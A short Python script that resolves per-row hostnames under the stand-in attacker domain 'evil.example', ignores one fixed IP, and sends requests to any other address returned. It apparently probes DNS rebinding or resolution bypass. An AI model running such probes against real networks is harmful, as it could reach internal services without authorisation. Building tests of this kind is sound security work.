import socket

from rows import each_answer, get


def try_all(row):
    name = f"{row}.evil.example"
    for *_, (address, *_) in socket.getaddrinfo(name, 8080, type=socket.SOCK_STREAM):
        if address != "93.184.215.77":
            return get(address, name, 8080)


each_answer(try_all)
